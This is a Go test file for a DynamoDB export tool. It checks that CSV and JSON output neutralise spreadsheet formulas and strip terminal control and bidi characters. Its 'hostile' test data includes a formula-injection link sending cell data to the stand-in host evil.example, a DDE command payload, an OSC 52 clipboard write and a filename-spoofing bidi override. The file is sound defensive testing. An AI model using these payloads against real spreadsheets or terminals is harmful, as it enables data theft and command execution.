package export

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
	"github.com/charmbracelet/x/exp/golden"

	"github.com/dynascope/dynascope/internal/domain"
	"github.com/dynascope/dynascope/internal/dynamo"
	"github.com/dynascope/dynascope/internal/dynamo/demo"
	"github.com/dynascope/dynascope/internal/dynamo/memory"
)

// hostile is text that attacks whoever opens or prints the file: formulas
// a spreadsheet runs, escape sequences, a clipboard write (OSC 52), C1,
// bidi overrides and line separators.
var hostile = map[string]string{
	"hyperlink": `=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"plus":      "+1+cmd|' /C calc'!A0",
	"minus":     "-2+3",
	"at":        "@SUM(A1:A9)",
	"tab":       "\t=1",
	"cr":        "\r=1",
	"csi":       "red\x1b[31m",
	"osc52":     "\x1b]52;c;ZXZpbA==\x07",
	"c1":        "\u009b2J",
	"bidi":      "invoice\u202egnp.exe",
	"lsep":      "line\u2028para\u2029",
	"plain":     "Zürich 東京",
	"inner":     "a=1", // not at the start: left alone
}

func hostileDB(t *testing.T) (*memory.DB, domain.KeyQuery) {
	t.Helper()
	s := func(v string) types.AttributeValue { return &types.AttributeValueMemberS{Value: v} }
	var items []dynamo.Item
	i := 0
	for name, v := range hostile {
		i++
		items = append(items, dynamo.Item{"PK": s("H"), "SK": s(name), "Text": s(v),
			"Neg":         &types.AttributeValueMemberN{Value: "-5"}, // a number stays a number
			"=Name\u202e": s("attribute names too"),
			"Nested":      &types.AttributeValueMemberM{Value: map[string]types.AttributeValue{"v": s(v)}}})
	}
	db := memory.New()
	if err := demo.CreateKeyTable(context.Background(), db, "Hostile", "S", items); err != nil {
		t.Fatal(err)
	}
	return db, domain.KeyQuery{Table: "Hostile", PKName: "PK", PK: domain.S("H"), SKName: "SK"}
}

// TestCSVFormulaCells: the CSV of hostile items, on a pipe: every text
// cell a spreadsheet would evaluate starts with ', numbers stay numbers,
// and no control, C1, bidi or separator character is left raw.
func TestCSVFormulaCells(t *testing.T) {
	db, q := hostileDB(t)
	var out bytes.Buffer
	if _, _, err := Items(context.Background(), db, q, 0, "csv", &out, false, Options{}); err != nil {
		t.Fatal(err)
	}
	noRawControls(t, "csv", out.Bytes())
	golden.RequireEqual(t, out.Bytes())
}

// TestPipedOutputsHoldNoControls: JSON lines, JSON and CSV of items and of
// rows, none of them on a terminal, carry no raw control bytes.
func TestPipedOutputsHoldNoControls(t *testing.T) {
	db, q := hostileDB(t)
	for _, format := range Formats {
		var out bytes.Buffer
		if _, _, err := Items(context.Background(), db, q, 0, format, &out, false, Options{}); err != nil {
			t.Fatal(err)
		}
		noRawControls(t, "items "+format, out.Bytes())
		var rows []any
		for _, v := range hostile {
			rows = append(rows, map[string]any{"name\u2066": v, "n": json.Number("-1")})
		}
		out.Reset()
		if err := Rows(&out, format, dynamo.Rows{Noun: "rows", Rows: rows}, false); err != nil {
			t.Fatal(err)
		}
		noRawControls(t, "rows "+format, out.Bytes())
	}
}

// noRawControls fails on any byte or character a terminal would obey or
// that reorders text, besides the newlines between records.
func noRawControls(t *testing.T, what string, b []byte) {
	t.Helper()
	for i, r := range string(b) {
		if (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) || unsafeRune(r) || r == '\uFFFD' {
			t.Fatalf("%s: %U raw at byte %d:\n%q", what, r, i, b)
		}
	}
}

func TestNeutraliseFormula(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "x=1": "x=1", "'=1": "'=1", "1": "1",
	} {
		if got := NeutraliseFormula(in); got != want {
			t.Errorf("NeutraliseFormula(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCSVEmptyStringIsNotAbsent: an empty string is written "" and an
// absent value an empty cell (encoding/csv wrote both as nothing), NULL
// \N; every other cell as encoding/csv writes it.
func TestCSVEmptyStringIsNotAbsent(t *testing.T) {
	rows := []map[string]any{
		{"k": "a", "e": "", "n": nil},
		{"k": "b"},
		{"k": " lead", "e": "x,y", "n": `q"uote`},
		{"k": `\.`, "e": "line\nbreak", "n": json.Number("-1.5")},
	}
	var b strings.Builder
	err := WriteCSV(&b, []string{"k"}, map[string]bool{"k": true, "e": true, "n": true}, func(row func(map[string]any) error) error {
		for _, r := range rows {
			if err := row(r); err != nil {
				return err
			}
		}
		return nil
	}, false)
	want := "k,e,n\na,\"\",\\N\nb,,\n\" lead\",\"x,y\",\"q\"\"uote\"\n\\\\.,line\\nbreak,-1.5\n"
	if err != nil || b.String() != want {
		t.Errorf("got %q, %v\nwant %q", b.String(), err, want)
	}
	var std strings.Builder
	w := csv.NewWriter(&std)
	for _, rec := range [][]string{{"a", "", "x"}, {" lead", "x,y", `q"uote`}, {`\.`, "a\rb", "\tt"}, {"", "", ""}} {
		_ = w.Write(rec)
		var own strings.Builder
		out := bufio.NewWriter(&own)
		_ = writeRecord(out, rec, make([]bool, len(rec)))
		_ = out.Flush()
		w.Flush()
		if own.String() != std.String() {
			t.Errorf("%q: %q, encoding/csv writes %q", rec, own.String(), std.String())
		}
		std.Reset()
	}
}

// TestCSVOfNoRows: no rows is the header of first alone, or nothing where
// there is no first; never one empty line (a row of one empty cell).
func TestCSVOfNoRows(t *testing.T) {
	none := func(func(map[string]any) error) error { return nil }
	for _, c := range []struct {
		first []string
		want  string
	}{{[]string{"PK", "", "SK", "PK"}, "PK,SK\n"}, {nil, ""}} {
		var b strings.Builder
		if err := WriteCSV(&b, c.first, nil, none, false); err != nil || b.String() != c.want {
			t.Errorf("first %q: %q, %v; want %q", c.first, b.String(), err, c.want)
		}
	}
}
